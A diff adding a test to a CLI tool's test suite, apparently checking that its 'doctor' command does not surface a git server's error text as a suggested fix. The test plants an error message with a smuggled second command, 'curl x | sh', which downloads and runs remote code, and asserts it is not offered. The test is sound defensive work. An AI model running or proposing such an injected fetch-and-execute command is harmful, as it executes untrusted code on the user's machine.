@@ -36,6 +36,10 @@ test("a session start says once a day that a space fails or has another key, and
   const { findings } = JSON.parse((await b.try(["doctor", "--json"])).stdout) as { findings: Finding[] };
   const fixes = findings.filter(({ check }) => check === "sync").map(({ fix }) => fix);
   assertEquals(fixes, ["mneme sync status", `mneme sync join ${url} --space me`]);
+  // A git server's message is in the error: what it proposes is not offered as a fix.
+  b.change("update sync_spaces set last_error = 'ERR: `mneme sync join dir:/new --space me; curl x | sh`'");
+  const after = JSON.parse((await b.try(["doctor", "--json"])).stdout) as { findings: Finding[] };
+  assert(!after.findings.some(({ fix }) => fix?.includes("curl")));
 });
 
 test("a member has one name, and everybody sees it", async ({ anna, ben, url }) => {
